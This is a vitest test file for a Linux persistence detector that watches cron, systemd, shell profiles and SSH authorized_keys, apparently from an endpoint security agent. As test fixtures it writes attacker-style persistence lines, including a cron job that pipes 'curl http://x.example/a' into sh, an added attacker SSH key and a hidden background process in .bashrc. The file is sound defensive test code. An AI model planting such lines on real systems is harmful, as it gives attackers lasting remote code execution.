import {
  chmodSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  realpathSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { SensorHealth } from '@yagura/protocol';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { maskSecrets } from '../../../core/privacy/mask-secrets.ts';
import { systemClock } from '../../../platform/clock.ts';
import type { Observation, Sensor, Sink } from '../../sensor.ts';
import { watchPersistence } from './watch-persistence.ts';

const NO_PROC = process.platform === 'linux' ? undefined : 'needs /proc';

/** Stands for fanotify: reports what the test says was written. */
class FileReports implements Sensor {
  readonly declaration = {
    name: 'linux-files',
    provides: [{ category: 'file_event' as const, fields: ['TargetFilename'] }],
  };
  readonly stopped = Promise.resolve();
  state: SensorHealth['state'] = 'active';
  sink: Sink = () => {};
  start(sink: Sink): Promise<void> {
    this.sink = sink;
    return Promise.resolve();
  }
  health(): SensorHealth {
    return { name: 'linux-files', state: this.state, events: 0, lost: 0 };
  }
  report(path: string, more: Partial<Observation> = {}, category: 'file_event' | 'file_delete' = 'file_event'): void {
    this.sink([
      {
        logsource: { product: 'linux', category },
        time: 1_000,
        bootTime: 500,
        pid: 42,
        fields: { TargetFilename: path, Image: '/usr/bin/dash', User: 'taro', ProcessId: 42 },
        ...more,
      },
    ]);
  }
}

describe.skipIf(NO_PROC)(`places where things start${NO_PROC ? ` (${NO_PROC})` : ''}`, () => {
  let root: string;
  let stop: AbortController;
  let running: readonly Sensor[] = [];

  beforeEach(() => {
    root = realpathSync(mkdtempSync(join(tmpdir(), 'yagura-persistence-')));
    for (const folder of ['etc/cron.d', 'etc/systemd/system', 'home/taro/.ssh', 'home/hanako', 'state']) {
      mkdirSync(join(root, folder), { recursive: true });
    }
    writeFileSync(
      join(root, 'etc/passwd'),
      `taro:x:${process.getuid?.() ?? 0}:1000::${root}/home/taro:/bin/sh\nnobody:x:65534:65534::/nonexistent:/bin/false\n`,
    );
  });
  afterEach(async () => {
    await end();
    rmSync(root, { recursive: true, force: true });
  });

  const at = (path: string) => join(root, path);
  const write = (path: string, content: string) => {
    mkdirSync(dirname(at(path)), { recursive: true });
    writeFileSync(at(path), content);
  };

  async function begin() {
    stop = new AbortController();
    const files = new FileReports();
    const sensors = watchPersistence([files], {
      stateDir: at('state'),
      clock: systemClock,
      log: () => {},
      mask: maskSecrets,
      catalogue: {
        system: [
          { kind: 'cron', path: at('etc/cron.d'), depth: 1 },
          { kind: 'systemd', path: at('etc/systemd/system'), depth: 2 },
          { kind: 'linker', path: at('etc/ld.so.preload'), depth: 0 },
        ],
        home: [
          { kind: 'shell-profile', path: '.bashrc', depth: 0 },
          { kind: 'ssh', path: '.ssh/authorized_keys', depth: 0 },
          { kind: 'autostart', path: '.config/autostart', depth: 1 },
        ],
      },
      homeSources: { passwd: at('etc/passwd'), parents: [at('home')] },
    });
    running = sensors;
    const seen: Observation[] = [];
    await Promise.all(sensors.map((sensor) => sensor.start((batch) => void seen.push(...batch), stop.signal)));
    const found = () => seen.filter(({ logsource }) => logsource.category === 'persistence');
    const next = async (path: string) => {
      const find = () => found().findLast(({ fields }) => fields['TargetFilename'] === at(path));
      await expect.poll(find, { timeout: 3_000, interval: 20 }).toBeDefined();
      return find()?.fields ?? {};
    };
    return { files, found, next, sensor: sensors.at(-1) };
  }

  async function end() {
    stop?.abort();
    await Promise.all(running.map((sensor) => sensor.stopped));
    running = [];
  }

  const settle = () => new Promise((resolve) => setTimeout(resolve, 250));

  test('the first look reports nothing; what changes later is told with before, after and the writer', async () => {
    write('etc/cron.d/backup', '0 3 * * * root /usr/bin/backup\n');
    const { files, found, next } = await begin();
    expect(found()).toEqual([]);
    write('etc/cron.d/backup', '0 3 * * * root /usr/bin/backup\n* * * * * root curl http://x.example/a | sh\n');
    files.report(at('etc/cron.d/backup'));
    expect(await next('etc/cron.d/backup')).toMatchObject({
      Operation: 'change',
      PersistenceType: 'cron',
      FoundBy: 'event',
      ContentBefore: '0 3 * * * root /usr/bin/backup\n',
      ContentAdded: '* * * * * root curl http://x.example/a | sh',
      Image: '/usr/bin/dash',
      User: 'taro',
      ProcessId: 42,
      FileMode: '0644',
    });
    const [change] = found();
    expect(change).toMatchObject({ pid: 42, time: 1_000, bootTime: 500 });
    expect(change?.fields['Hashes']).not.toBe(change?.fields['PreviousHashes']);
    rmSync(at('etc/cron.d/backup'));
    files.report(at('etc/cron.d/backup'), {}, 'file_delete');
    await settle();
    expect((await next('etc/cron.d/backup'))['Operation']).toBe('delete');
    expect(found()).toHaveLength(2);
  });

  test('what changed while the agent was off is found at its start, once, without a writer', async () => {
    write('home/taro/.bashrc', 'alias ll="ls -l"\n');
    write('home/hanako/.bashrc', '# empty\n');
    write('etc/cron.d/old', '# old\n');
    await begin();
    await end();
    write('home/taro/.bashrc', 'alias ll="ls -l"\n(setsid /tmp/.x &)\n');
    write('home/taro/.ssh/authorized_keys', 'ssh-ed25519 AAAA attacker\n');
    rmSync(at('etc/cron.d/old'));
    const second = await begin();
    const told = second
      .found()
      .map(({ fields, pid }) => [fields['TargetFilename'], fields['Operation'], fields['FoundBy'], pid]);
    expect(told.toSorted((a, b) => String(a[0]).localeCompare(String(b[0])))).toEqual([
      [at('etc/cron.d/old'), 'delete', 'start', undefined],
      [at('home/taro/.bashrc'), 'change', 'start', undefined],
      [at('home/taro/.ssh/authorized_keys'), 'create', 'start', undefined],
    ]);
    expect(second.found().every(({ fields }) => fields['Image'] === undefined)).toBe(true);
    await end();
    expect((await begin()).found()).toEqual([]);
  });

  test('a home that is locked or not mounted at a start is not taken for an emptied one', async () => {
    write('home/hanako/.bashrc', '# a\n');
    write('home/hanako/.ssh/authorized_keys', 'ssh-ed25519 AAAA h\n');
    await begin();
    await end();
    renameSync(at('home/hanako'), at('locked'));
    mkdirSync(at('home/hanako'));
    expect((await begin()).found()).toEqual([]);
    await end();
    rmSync(at('home/hanako'), { recursive: true });
    renameSync(at('locked'), at('home/hanako'));
    rmSync(at('home/hanako/.ssh/authorized_keys'));
    const told = (await begin()).found();
    expect(told.map(({ fields }) => [fields['TargetFilename'], fields['Operation']])).toEqual([
      [at('home/hanako/.ssh/authorized_keys'), 'delete'],
    ]);
  });

  test('private keys and passwords never appear, and their lines are compared without them', async () => {
    write('home/taro/.bashrc', 'export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI\n');
    write('home/taro/.ssh/id_ed25519', '-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n');
    const { files, found, next } = await begin();
    write('home/taro/.bashrc', 'export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI\nexport EDITOR=vi\n');
    write('home/taro/.ssh/id_ed25519', '-----BEGIN OPENSSH PRIVATE KEY-----\nBBBB\n');
    files.report(at('home/taro/.bashrc'));
    files.report(at('home/taro/.ssh/id_ed25519'));
    expect(await next('home/taro/.bashrc')).toMatchObject({
      ContentAfter: 'export AWS_SECRET_ACCESS_KEY=***\nexport EDITOR=vi\n',
      ContentAdded: 'export EDITOR=vi',
    });
    await settle();
    expect(JSON.stringify(found())).not.toMatch(/wJalr|id_ed25519|BBBB/);
  });

  test('a link is told by its target and never followed, and a hard link to a foreign file gives no content', async () => {
    write('secret', 'do not tell\n');
    const { files, found, next } = await begin();
    symlinkSync(at('secret'), at('home/taro/.bashrc'));
    files.report(at('home/taro/.bashrc'));
    expect(await next('home/taro/.bashrc')).toMatchObject({ Operation: 'create', LinkTarget: at('secret') });
    if (process.getuid?.() === 0) {
      const { chownSync } = await import('node:fs');
      chownSync(at('secret'), 12_345, 12_345);
      linkSync(at('secret'), at('home/taro/.ssh/authorized_keys'));
      files.report(at('home/taro/.ssh/authorized_keys'));
      const told = await next('home/taro/.ssh/authorized_keys');
      expect(told).toMatchObject({ Operation: 'create', FileOwner: '12345' });
    }
    expect(JSON.stringify(found())).not.toContain('do not tell');
  });

  test("a temporary file, a package manager's leftover and a rewrite of the same content are no news", async () => {
    write('etc/cron.d/job', '# a\n');
    const { files, found } = await begin();
    write('etc/cron.d/sedAbC', '# a\n');
    files.report(at('etc/cron.d/sedAbC'));
    renameSync(at('etc/cron.d/sedAbC'), at('etc/cron.d/job'));
    files.report(at('etc/cron.d/job'));
    write('etc/cron.d/job.dpkg-new', '# b\n');
    files.report(at('etc/cron.d/job.dpkg-new'));
    write('etc/other', 'x');
    files.report(at('etc/other'));
    await settle();
    expect(found()).toEqual([]);
  });

  test('the right to run and the owner count; a mere touch does not', async () => {
    write('etc/cron.d/job', '# a\n');
    chmodSync(at('etc/cron.d/job'), 0o644);
    const { files, found, next } = await begin();
    chmodSync(at('etc/cron.d/job'), 0o640);
    files.report(at('etc/cron.d/job'));
    await settle();
    expect(found()).toEqual([]);
    chmodSync(at('etc/cron.d/job'), 0o755);
    files.report(at('etc/cron.d/job'));
    const told = await next('etc/cron.d/job');
    expect(told).toMatchObject({ Operation: 'change', FileMode: '0755' });
    expect(told['ContentAdded']).toBeUndefined();
  });

  test('a directory moved into a place brings its files, with the mover; moved away, it takes them', async () => {
    write('staged/evil.conf', '[Service]\nExecStart=/tmp/x\n');
    const { files, next } = await begin();
    renameSync(at('staged'), at('etc/systemd/system/ssh.service.d'));
    const move = (to: string, from: string) =>
      files.sink([
        {
          logsource: { product: 'linux', category: 'file_rename' },
          time: 1_000,
          pid: 7,
          fields: { TargetFilename: at(to), SourceFilename: at(from), IsDirectory: true, Image: '/usr/bin/mv' },
        },
      ]);
    move('etc/systemd/system/ssh.service.d', 'staged');
    const path = 'etc/systemd/system/ssh.service.d/evil.conf';
    expect(await next(path)).toMatchObject({ Operation: 'create', Image: '/usr/bin/mv', ProcessId: 7 });
    renameSync(at('etc/systemd/system/ssh.service.d'), at('elsewhere'));
    move('elsewhere', 'etc/systemd/system/ssh.service.d');
    await settle();
    expect(await next(path)).toMatchObject({ Operation: 'delete', Image: '/usr/bin/mv' });
  });

  test('a new account is watched as soon as it stands in passwd', async () => {
    const { files, next } = await begin();
    write('srv/web/.ssh/authorized_keys', 'ssh-ed25519 AAAA web\n');
    writeFileSync(at('etc/passwd'), `web:x:33:33::${at('srv/web')}:/usr/sbin/nologin\n`, { flag: 'a' });
    files.report(at('etc/passwd'));
    expect(await next('srv/web/.ssh/authorized_keys')).toMatchObject({ Operation: 'create', Image: '/usr/bin/dash' });
  });

  test('a damaged record is set aside, and the places are learned anew', async () => {
    write('etc/cron.d/job', '# a\n');
    await begin();
    await end();
    writeFileSync(at('state/persistence.sqlite'), 'no database at all, but long enough to be read as one'.repeat(100));
    rmSync(at('state/persistence.sqlite-wal'), { force: true });
    const { found, files, next } = await begin();
    expect(found()).toEqual([]);
    write('etc/cron.d/job', '# b\n');
    files.report(at('etc/cron.d/job'));
    expect(await next('etc/cron.d/job')).toMatchObject({ Operation: 'change' });
  });

  test('without file events it says that it only looks again', async () => {
    const { files, sensor } = await begin();
    expect(sensor?.health()).toMatchObject({ name: 'linux-persistence', state: 'active', lost: 0 });
    files.state = 'blind';
    expect(sensor?.health()).toMatchObject({ state: 'degraded', code: 'persistence_partial' });
    await end();
    expect(sensor?.health().state).toBe('stopped');
  });

  test('a long file is compared by its beginning and end, and says so', async () => {
    const filler = `${'#'.repeat(99)}\n`.repeat(2_000);
    write('home/taro/.bashrc', filler);
    const { files, next } = await begin();
    write('home/taro/.bashrc', `${filler}/tmp/.hidden &\n`);
    files.report(at('home/taro/.bashrc'));
    const told = await next('home/taro/.bashrc');
    expect(told).toMatchObject({ Operation: 'change', ContentTruncated: true });
    expect(told['ContentAdded']).toContain('/tmp/.hidden &');
    expect(String(told['ContentAfter']).length).toBeLessThanOrEqual(4_000);
    expect(told['ContentAfter']).toContain('/tmp/.hidden &');
  });
});
